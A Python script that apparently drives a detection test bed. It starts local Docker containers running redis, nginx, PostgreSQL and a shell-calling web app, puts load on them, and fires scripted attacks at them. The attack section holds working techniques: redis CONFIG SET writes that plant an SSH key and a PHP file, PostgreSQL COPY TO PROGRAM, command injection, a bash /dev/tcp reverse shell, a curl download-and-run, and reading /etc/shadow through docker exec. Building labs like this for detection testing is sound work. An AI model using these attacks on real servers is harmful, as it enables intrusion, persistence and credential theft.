#!/usr/bin/python3
"""The real-software test bed: four containers of one locally built Debian image (redis-server,
nginx with 50 static pages, PostgreSQL 15, a Python web app that shells out) on loopback ports
of the host network, a steady varied load driven from the host, and real attack techniques.

Used by the e2e test (tests/realsw/realsw_e2e.py) and the benchmark (bench/real-software.sh).
Needs DOCKER_HOST (a private dockerd), redis-benchmark, psql and pgbench on the host.

  lab.py up STATE.json        build the image if needed, start the containers
  lab.py load STATE.json SECONDS
  lab.py attack STATE.json NAME   (see ATTACKS)
  lab.py down STATE.json
"""
import http.client
import json
import os
import random
import socket
import subprocess
import sys
import threading
import time

HERE = os.path.dirname(os.path.abspath(__file__))
IMAGE = "da-lab/real:1"
ROLES = ("redis", "nginx", "postgres", "app")


def log(*args):
    print("lab:", *args, file=sys.stderr, flush=True)


def run(cmd, check=True, timeout=120, **kw):
    r = subprocess.run(cmd, capture_output=True, text=True, timeout=timeout, **kw)
    if check and r.returncode != 0:
        raise RuntimeError(f"{' '.join(cmd)} failed ({r.returncode}): {r.stdout}{r.stderr}")
    return r


def free_port():
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    port = s.getsockname()[1]
    s.close()
    return port


def wait_port(port, seconds=90):
    deadline = time.time() + seconds
    while time.time() < deadline:
        try:
            socket.create_connection(("127.0.0.1", port), timeout=1).close()
            return True
        except OSError:
            time.sleep(0.3)
    return False


def up(state_path, build_dir):
    run(["bash", os.path.join(HERE, "build-lab-image.sh"), build_dir, IMAGE], timeout=1800)
    state = {"image": IMAGE, "ports": {}, "containers": {}}
    suffix = str(os.getpid())
    for role in ROLES:
        port = free_port()
        name = f"lab-{role}-{suffix}"
        run(["docker", "run", "-d", "--name", name, "--network", "host", IMAGE, role, str(port)], timeout=300)
        state["ports"][role] = port
        state["containers"][role] = name
    for role, port in state["ports"].items():
        if not wait_port(port):
            logs = run(["docker", "logs", state["containers"][role]], check=False).stdout
            raise RuntimeError(f"{role} did not listen on {port}: {logs}")
    pg = state["ports"]["postgres"]
    run(["pgbench", "-h", "127.0.0.1", "-p", str(pg), "-U", "postgres", "-i", "-s", "2", "-q", "postgres"], timeout=300)
    with open(state_path, "w") as f:
        json.dump(state, f)
    log("up:", json.dumps(state["ports"]))
    return state


def down(state):
    for name in state["containers"].values():
        run(["docker", "rm", "-f", name], check=False)


# ---- load --------------------------------------------------------------------------------

def http_get(port, path, timeout=10):
    c = http.client.HTTPConnection("127.0.0.1", port, timeout=timeout)
    try:
        c.request("GET", path)
        r = c.getresponse()
        return r.status, r.read()
    finally:
        c.close()


def load(state, seconds, stop_event=None):
    """Steady, varied load on all four services until `seconds` have passed, or `stop_event` is
    set (then within one client run: at most pgbench's 8 s). Returns counts."""
    stop = time.time() + seconds

    def going():
        return time.time() < stop and not (stop_event and stop_event.is_set())
    ports = state["ports"]
    counts = {"redis_runs": 0, "pgbench_runs": 0, "nginx": 0, "app": 0, "errors": 0}
    lock = threading.Lock()

    def count(key, n=1):
        with lock:
            counts[key] += n

    def redis_loop():
        tests = ["get,set", "incr,lpush,lpop", "hset,sadd", "get,set,mset"]
        while going():
            r = run(["redis-benchmark", "-h", "127.0.0.1", "-p", str(ports["redis"]), "-q", "-n", "4000",
                     "-c", "4", "-r", "5000", "-t", random.choice(tests)], check=False, timeout=60)
            count("redis_runs" if r.returncode == 0 else "errors")
            time.sleep(0.5)

    def pg_loop():
        while going():
            mode = random.choice([[], ["-S"], ["-N"]])
            left = max(1, min(8, int(stop - time.time())))
            r = run(["pgbench", "-h", "127.0.0.1", "-p", str(ports["postgres"]), "-U", "postgres", "-n",
                     "-c", "2", "-T", str(left), "-R", "200"] + mode + ["postgres"], check=False, timeout=60)
            count("pgbench_runs" if r.returncode == 0 else "errors")

    def http_loop(port, paths, key, rate):
        while going():
            try:
                status, _ = http_get(port, random.choice(paths)())
                count(key if status < 500 else "errors")
            except OSError:
                count("errors")
            time.sleep(1.0 / rate)

    pages = lambda: f"/page{random.randint(1, 50)}.html"
    app_paths = [lambda: f"/lookup?name={random.choice(['alice', 'bob', 'carol', 'dave', 'erin'])}",
                 lambda: "/uptime", lambda: "/count", lambda: "/health"]
    threads = [threading.Thread(target=redis_loop), threading.Thread(target=pg_loop),
               threading.Thread(target=http_loop, args=(ports["nginx"], [pages], "nginx", 60)),
               threading.Thread(target=http_loop, args=(ports["app"], [lambda: random.choice(app_paths)()], "app", 12))]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    return counts


# ---- attacks -----------------------------------------------------------------------------

def serve_once(handle, seconds=15):
    """A host-side server on a free loopback port that handles one connection with
    `handle(conn)` in a thread, then closes. Returns (port, thread)."""
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    s.listen(1)
    s.settimeout(seconds)

    def serve():
        try:
            c, _ = s.accept()
            c.settimeout(5)
            handle(c)
            c.close()
        except OSError:
            pass
        s.close()
    t = threading.Thread(target=serve, daemon=True)
    t.start()
    return s.getsockname()[1], t


def reverse_shell_listener():
    """The attacker's end of a reverse shell: sends two commands, reads until closed."""
    def handle(c):
        c.sendall(b"id\nexit\n")
        while c.recv(4096):
            pass
    return serve_once(handle)


def file_server(body):
    """Serves `body` once over HTTP, for download-and-run."""
    def handle(c):
        c.recv(4096)
        c.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
    return serve_once(handle)


def inject(state, command):
    from urllib.parse import quote
    return http_get(state["ports"]["app"], "/lookup?name=" + quote("x' /dev/null; " + command + " #"), timeout=20)


def redis_cli(state, *args):
    return run(["redis-cli", "-h", "127.0.0.1", "-p", str(state["ports"]["redis"])] + list(args), check=False)


def attack_redis_ssh_key(state):
    """Unauthenticated redis made to write its user's authorized_keys (CONFIG SET dir + SAVE)."""
    redis_cli(state, "SET", "x", "\n\nssh-ed25519 AAAAC3Nz attacker@evil\n\n")
    redis_cli(state, "CONFIG", "SET", "dir", "/var/lib/redis/.ssh")
    redis_cli(state, "CONFIG", "SET", "dbfilename", "authorized_keys")
    redis_cli(state, "SAVE")
    redis_cli(state, "CONFIG", "SET", "dir", "/var/lib/redis")
    redis_cli(state, "CONFIG", "SET", "dbfilename", "dump.rdb")
    return {"container": "redis", "expect": ["/var/lib/redis/.ssh/authorized_keys", "persistence-write"]}


def attack_redis_file_outside(state):
    """Redis made to write a file outside its data directory (CONFIG SET dir /tmp)."""
    redis_cli(state, "CONFIG", "SET", "dir", "/tmp")
    redis_cli(state, "CONFIG", "SET", "dbfilename", "pwned.php")
    redis_cli(state, "SAVE")
    redis_cli(state, "CONFIG", "SET", "dir", "/var/lib/redis")
    redis_cli(state, "CONFIG", "SET", "dbfilename", "dump.rdb")
    return {"container": "redis", "expect": ["/tmp/temp-", "/tmp/pwned.php"]}


def attack_postgres_program(state):
    """A database superuser made to run a command: COPY ... TO PROGRAM."""
    run(["psql", "-h", "127.0.0.1", "-p", str(state["ports"]["postgres"]), "-U", "postgres", "-c",
         "COPY (SELECT 1) TO PROGRAM 'id > /tmp/pg-owned'", "postgres"], check=False)
    return {"container": "postgres", "expect": ["server-shell"]}


def attack_web_injection(state):
    """Command injection into the web app: a program it never runs."""
    inject(state, "id; uname -a")
    return {"container": "app", "expect": ["/usr/bin/id", "/usr/bin/uname"]}


def attack_reverse_shell(state):
    """Injection that opens a reverse shell to the attacker (bash /dev/tcp)."""
    port, t = reverse_shell_listener()
    inject(state, f"bash -c 'bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1' &")
    t.join(10)
    return {"container": "app", "expect": ["reverse-shell"]}


def attack_download_run(state):
    """Injection that downloads a program and runs it from /tmp."""
    port, t = file_server(b"#!/bin/sh\necho owned > /tmp/owned\n")
    inject(state, f"curl -s -o /tmp/.x http://127.0.0.1:{port}/x; chmod +x /tmp/.x; /tmp/.x")
    t.join(10)
    return {"container": "app", "expect": ["/tmp/.x", "/usr/bin/curl"]}


def attack_docker_exec(state):
    """An interactive shell through `docker exec -it` (a terminal from `script`)."""
    name = state["containers"]["nginx"]
    run(["script", "-qec", f"docker exec -it {name} bash -c 'id; cat /etc/shadow; exit'", "/dev/null"],
        check=False, stdin=subprocess.DEVNULL)
    return {"container": "nginx", "expect": ["/etc/shadow", "terminal-shell", "/dev/tty"]}


ATTACKS = {
    "redis-ssh-key": attack_redis_ssh_key,
    "redis-file-outside": attack_redis_file_outside,
    "postgres-program": attack_postgres_program,
    "web-injection": attack_web_injection,
    "reverse-shell": attack_reverse_shell,
    "download-run": attack_download_run,
    "docker-exec": attack_docker_exec,
}


def main(argv):
    if len(argv) < 3:
        print(__doc__, file=sys.stderr)
        return 2
    cmd, state_path = argv[1], argv[2]
    if cmd == "up":
        up(state_path, argv[3] if len(argv) > 3 else os.path.join(HERE, "..", "..", "build"))
        return 0
    with open(state_path) as f:
        state = json.load(f)
    if cmd == "load":
        print(json.dumps(load(state, float(argv[3]))))
    elif cmd == "attack":
        print(json.dumps(ATTACKS[argv[3]](state)))
    elif cmd == "down":
        down(state)
    else:
        print(__doc__, file=sys.stderr)
        return 2
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
